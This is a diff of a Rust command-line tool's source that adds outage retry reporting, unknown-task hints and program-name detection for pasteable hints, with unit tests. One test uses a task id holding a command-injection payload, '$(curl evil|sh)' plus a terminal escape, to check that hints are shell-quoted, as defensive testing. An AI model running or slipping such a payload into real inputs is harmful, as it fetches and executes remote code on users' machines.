@@ -8,7 +8,12 @@ use std::time::Duration;
 
 use futures_util::StreamExt as _;
 use serde_json::Value;
-use tasks_client::{Client, ClientError, Execution, Outcome, SettleOptions, TaskCall, Wait};
+use std::sync::Mutex;
+
+use tasks_client::{
+    Client, ClientError, Execution, FailureKind, Outcome, RetryEvent, RetryNotice, SettleOptions,
+    TaskCall, Wait,
+};
 use tasks_core::input::Root;
 use tasks_core::TaskId;
 
@@ -17,7 +22,7 @@ use crate::interrupt::Interrupts;
 use crate::prompt::Terminal;
 use crate::status::Status;
 use crate::text::clean;
-use crate::{args, output, Answers, Cli, Command};
+use crate::{args, output, Answers, Cli, Command, Follow};
 
 /// How long `cancel` and Ctrl-C wait for the final status after sending `tasks/cancel`.
 const CANCEL_WAIT: Duration = Duration::from_secs(30);
@@ -28,6 +33,102 @@ struct Run {
     options: SettleOptions,
     status: Status,
     interrupts: Interrupts,
+    /// What the retry hook saw while a task was followed.
+    outage: Arc<Mutex<Outage>>,
+}
+
+/// What the watch told of the server's outages ([`RetryNotice`]).
+#[derive(Debug, Default)]
+struct Outage {
+    /// The server was unreachable at some point of this run.
+    seen: bool,
+    /// The watch gave up on it (`--retry-for` passed).
+    gave_up: bool,
+}
+
+/// The settle options of `--poll`, `--timeout` and `--retry-for`, the retry hook telling the
+/// user of an outage on the status line and in `outage`; `Err` names a bad number.
+fn follow_options(
+    follow: Option<&Follow>,
+    url: &str,
+    status: &Status,
+    outage: &Arc<Mutex<Outage>>,
+) -> Result<SettleOptions, String> {
+    let mut options = SettleOptions::default();
+    let Some(follow) = follow else {
+        return Ok(options);
+    };
+    if follow.poll {
+        options = options.wait(Wait::Poll);
+    }
+    if let Some(seconds) = follow.timeout {
+        let timeout = Duration::try_from_secs_f64(seconds)
+            .map_err(|_| "--timeout must be a number of seconds".to_owned())?;
+        options = options.deadline(timeout);
+    }
+    let retry_for = Duration::try_from_secs_f64(follow.retry_for)
+        .map_err(|_| "--retry-for must be a number of seconds".to_owned())?;
+    let (status, outage) = (status.clone(), outage.clone());
+    let url = clean(&shown_url(url)).into_owned();
+    Ok(options
+        .retry_for(retry_for)
+        .on_retry(move |notice| tell_retry(&status, &outage, &url, notice)))
+}
+
+/// `12 s`: a duration in whole seconds, rounded up (`0 s` only for zero).
+fn whole_seconds(duration: Duration) -> String {
+    let seconds = duration.as_secs() + u64::from(duration.subsec_nanos() > 0);
+    format!("{seconds} s")
+}
+
+/// `unreachable`, or `unavailable (HTTP 503)`.
+fn failure_text(kind: FailureKind) -> String {
+    match kind {
+        FailureKind::Unavailable { status } => format!("unavailable (HTTP {status})"),
+        _ => "unreachable".to_owned(),
+    }
+}
+
+/// The lines of an outage: one when it begins (with how long it is retried), one when the
+/// server is back, one when the watch gives up; between them, the status line counts the
+/// attempts.
+fn tell_retry(status: &Status, outage: &Mutex<Outage>, url: &str, notice: &RetryNotice) {
+    let mut seen = outage.lock().unwrap_or_else(|e| e.into_inner());
+    seen.seen = true;
+    match notice.event {
+        RetryEvent::Retrying { .. } if notice.attempt == 1 => status.line(&format!(
+            "server {} at {url}, retrying for up to {} (--retry-for; {})",
+            failure_text(notice.kind),
+            whole_seconds(notice.remaining()),
+            clean(&notice.error)
+        )),
+        RetryEvent::Retrying { .. } => status.show(&format!(
+            "server {}, retrying (attempt {}, {} of {})",
+            failure_text(notice.kind),
+            notice.attempt + 1,
+            whole_seconds(notice.elapsed),
+            whole_seconds(notice.retry_for)
+        )),
+        RetryEvent::Recovered => status.line(&format!(
+            "server back at {url} after {} ({} failed {})",
+            whole_seconds(notice.elapsed),
+            notice.attempt,
+            if notice.attempt == 1 {
+                "attempt"
+            } else {
+                "attempts"
+            }
+        )),
+        _ => {
+            seen.gave_up = true;
+            status.line(&format!(
+                "server still {} at {url} after {}: giving up (--retry-for {})",
+                failure_text(notice.kind),
+                whole_seconds(notice.elapsed),
+                notice.retry_for.as_secs_f64()
+            ));
+        }
+    }
 }
 
 pub(crate) async fn run(cli: Cli) -> Exit {
@@ -38,24 +139,21 @@ pub(crate) async fn run(cli: Cli) -> Exit {
             return Exit::Unreachable;
         }
     };
-    let mut options = SettleOptions::default();
-    if cli.poll {
-        options = options.wait(Wait::Poll);
-    }
-    if let Some(seconds) = cli.timeout {
-        match Duration::try_from_secs_f64(seconds) {
-            Ok(timeout) => options = options.deadline(timeout),
-            Err(_) => {
-                crate::say!("error: --timeout must be a number of seconds");
-                return Exit::Usage;
-            }
+    let status = Status::new();
+    let outage = Arc::default();
+    let options = match follow_options(cli.command.follow(), cli.command.url(), &status, &outage) {
+        Ok(options) => options,
+        Err(message) => {
+            crate::say!("error: {message}");
+            return Exit::Usage;
         }
-    }
+    };
     let mut run = Run {
         json: cli.json,
         options,
-        status: Status::new(),
+        status,
         interrupts,
+        outage,
     };
     let token = cli.token;
     match cli.command {
@@ -75,6 +173,7 @@ pub(crate) async fn run(cli: Cli) -> Exit {
             pairs,
             args,
             answers,
+            ..
         } => {
             let (client, terminal) =
                 match connect(&url, token, Some((answers, &run.status, CALL_KEYS))).await {
@@ -90,11 +189,17 @@ pub(crate) async fn run(cli: Cli) -> Exit {
                     output::task(&detailed, run.json);
                     Exit::Completed
                 }
-                Err(error) => Exit::report(&error),
+                Err(error) => {
+                    let exit = Exit::report(&error);
+                    if error.code() == Some(UNKNOWN_TASK) {
+                        crate::say!("{}", unknown_task_hint(false));
+                    }
+                    exit
+                }
             },
             Err(exit) => exit,
         },
-        Command::Cancel { url, task_id } => match task(&url, token, None, &task_id).await {
+        Command::Cancel { url, task_id, .. } => match task(&url, token, None, &task_id).await {
             Ok((task, _)) => run.cancel(&task).await,
             Err(exit) => exit,
         },
@@ -102,6 +207,7 @@ pub(crate) async fn run(cli: Cli) -> Exit {
             url,
             task_id,
             answers,
+            ..
         } => {
             let status = run.status.clone();
             match task(&url, token, Some((answers, &status, WATCH_KEYS)), &task_id).await {
@@ -109,6 +215,23 @@ pub(crate) async fn run(cli: Cli) -> Exit {
                 Err(exit) => exit,
             }
         }
+    }
+}
+
+/// The JSON-RPC code of `tasks/get` for a task the server does not know (SEP-2663 "Error
+/// Handling": unknown, expired or another caller's).
+const UNKNOWN_TASK: i64 = -32602;
+
+/// Why a task the server knew may be unknown now; `outage`: the server was unreachable while
+/// the task was followed (so it restarted, most likely).
+fn unknown_task_hint(outage: bool) -> &'static str {
+    if outage {
+        "hint: the server was unreachable while the task ran and no longer knows it: a server \
+         that keeps its tasks in memory (such as tasks-fixture without --store) loses them when \
+         it restarts"
+    } else {
+        "hint: a task is unknown once its TTL ran out, to another caller, or after a restart of \
+         a server that keeps its tasks in memory (such as tasks-fixture without --store)"
     }
 }
 
@@ -243,8 +366,9 @@ impl Run {
         };
         let Some(entry) = tools.iter().find(|t| t.name == tool) else {
             crate::say!(
-                "error: the server has no tool named {:?} (`mcp-tasks tools {}` lists them)",
+                "error: the server has no tool named {:?} (`{} tools {}` lists them)",
                 clean(tool),
+                clean(program()),
                 shell_words::quote(&shown_url(client.url()))
             );
             return Exit::Usage;
@@ -319,8 +443,19 @@ impl Run {
             Some(Err(_)) if interrupted(terminal) => self.stop_watching(task),
             Some(Err(error)) => {
                 self.status.finish();
-                let exit = Exit::report(&error);
-                if matches!(exit, Exit::InputNeeded | Exit::Timeout) {
+                let outage = {
+                    let outage = self.outage.lock().unwrap_or_else(|e| e.into_inner());
+                    (outage.seen, outage.gave_up)
+                };
+                let mut exit = Exit::report(&error);
+                if outage.1 && error.is_retryable() {
+                    // Gave up after --retry-for: unreachable, whatever the last failure was.
+                    exit = Exit::Unreachable;
+                }
+                if matches!(error, ClientError::UnknownTask { .. }) {
+                    crate::say!("{}", unknown_task_hint(outage.0));
+                }
+                if matches!(exit, Exit::InputNeeded | Exit::Timeout | Exit::Unreachable) {
                     still_there(task);
                 }
                 exit
@@ -346,9 +481,7 @@ impl Run {
             self.status.finish();
             return Exit::report(&error);
         }
-        let options = SettleOptions::default()
-            .wait(self.options.wait)
-            .deadline(CANCEL_WAIT);
+        let options = self.options.clone().deadline(CANCEL_WAIT);
         let status = self.status.clone();
         let mut updates = Box::pin(task.updates(&options));
         let last = loop {
@@ -423,33 +556,111 @@ fn shown_url(url: &str) -> String {
 
 /// Says how to reach `task` again.
 fn still_there(task: &TaskCall) {
-    crate::say!("{}", reach_again(&task.handle().url, task.id().as_str()));
+    crate::say!(
+        "{}",
+        reach_again(program(), &task.handle().url, task.id().as_str())
+    );
 }
 
-/// How to reach a task again, as commands that can be pasted into a shell: the URL without
-/// its password, both words shell-quoted, control characters escaped.
-fn reach_again(url: &str, id: &str) -> String {
+/// How to run this program again, as the user ran it (for the commands hints print): `cargo
+/// run --bin mcp-tasks --` under `cargo run`, else the path it was started by when that is a
+/// path (`./target/debug/mcp-tasks`, shell-quoted), else `mcp-tasks`.
+fn program() -> &'static str {
+    static PROGRAM: std::sync::OnceLock<String> = std::sync::OnceLock::new();
+    PROGRAM.get_or_init(|| {
+        let argv0 = std::env::args_os().next();
+        invocation(
+            std::env::var_os("CARGO").is_some(),
+            argv0.as_deref().and_then(std::ffi::OsStr::to_str),
+        )
+    })
+}
+
+/// [`program`] of a run where `cargo` says whether `CARGO` is set (cargo sets it for what
+/// `cargo run` starts) and `argv0` is the program's first argument.
+fn invocation(cargo: bool, argv0: Option<&str>) -> String {
+    let Some(argv0) = argv0.filter(|a| a.contains(std::path::MAIN_SEPARATOR)) else {
+        return "mcp-tasks".to_owned();
+    };
+    let path = std::path::Path::new(argv0);
+    let in_target = path.components().any(|c| c.as_os_str() == "target")
+        || std::env::var_os("CARGO_TARGET_DIR")
+            .is_some_and(|dir| path.starts_with(std::path::Path::new(&dir)));
+    if cargo && in_target {
+        "cargo run --bin mcp-tasks --".to_owned()
+    } else {
+        shell_words::quote(argv0).into_owned()
+    }
+}
+
+/// How to reach a task again, as commands that can be pasted into a shell: `program` (as
+/// [`program`] says) and the URL without its password, both words shell-quoted, control
+/// characters escaped.
+fn reach_again(program: &str, url: &str, id: &str) -> String {
     let url = shell_words::quote(&shown_url(url)).into_owned();
     let id = shell_words::quote(id).into_owned();
     format!(
         "The task is still on the server: `{}` follows it, `{}` cancels it.",
-        clean(&format!("mcp-tasks watch {url} {id}")),
-        clean(&format!("mcp-tasks cancel {url} {id}"))
+        clean(&format!("{program} watch {url} {id}")),
+        clean(&format!("{program} cancel {url} {id}"))
     )
 }
 
 #[cfg(test)]
 mod tests {
-    use super::reach_again;
+    use super::{invocation, reach_again, whole_seconds};
+    use std::time::Duration;
+
+    #[test]
+    fn hints_name_the_program_as_it_was_run() {
+        let cargo = "cargo run --bin mcp-tasks --";
+        assert_eq!(
+            invocation(true, Some("/work/repo/target/debug/mcp-tasks")),
+            cargo
+        );
+        assert_eq!(invocation(true, Some("target/release/mcp-tasks")), cargo);
+        assert_eq!(
+            invocation(false, Some("./target/debug/mcp-tasks")),
+            "./target/debug/mcp-tasks",
+            "run by its path without cargo: that path"
+        );
+        assert_eq!(
+            invocation(false, Some("/opt/my tools/mcp-tasks")),
+            "'/opt/my tools/mcp-tasks'"
+        );
+        assert_eq!(
+            invocation(true, Some("mcp-tasks")),
+            "mcp-tasks",
+            "from PATH"
+        );
+        assert_eq!(invocation(false, None), "mcp-tasks");
+        assert_eq!(
+            reach_again(cargo, "http://h/mcp", "t1"),
+            "The task is still on the server: `cargo run --bin mcp-tasks -- watch http://h/mcp t1` \
+             follows it, `cargo run --bin mcp-tasks -- cancel http://h/mcp t1` cancels it."
+        );
+    }
+
+    #[test]
+    fn seconds_are_whole_and_rounded_up() {
+        assert_eq!(whole_seconds(Duration::ZERO), "0 s");
+        assert_eq!(whole_seconds(Duration::from_millis(1)), "1 s");
+        assert_eq!(whole_seconds(Duration::from_secs(300)), "300 s");
+        assert_eq!(whole_seconds(Duration::from_millis(12_500)), "13 s");
+    }
 
     #[test]
     fn hints_are_safe_to_paste() {
         assert_eq!(
-            reach_again("http://127.0.0.1:3000/mcp", "abc_-1"),
+            reach_again("mcp-tasks", "http://127.0.0.1:3000/mcp", "abc_-1"),
             "The task is still on the server: `mcp-tasks watch http://127.0.0.1:3000/mcp abc_-1` \
              follows it, `mcp-tasks cancel http://127.0.0.1:3000/mcp abc_-1` cancels it."
         );
-        let hint = reach_again("http://user:hunter2@h/mcp", "x $(curl evil|sh)\u{1b}[2J");
+        let hint = reach_again(
+            "mcp-tasks",
+            "http://user:hunter2@h/mcp",
+            "x $(curl evil|sh)\u{1b}[2J",
+        );
         assert!(!hint.contains("hunter2"), "{hint}");
         assert!(hint.contains("http://user@h/mcp"), "{hint}");
         assert!(hint.contains("'x $(curl evil|sh)\\u{1b}[2J'"), "{hint}");
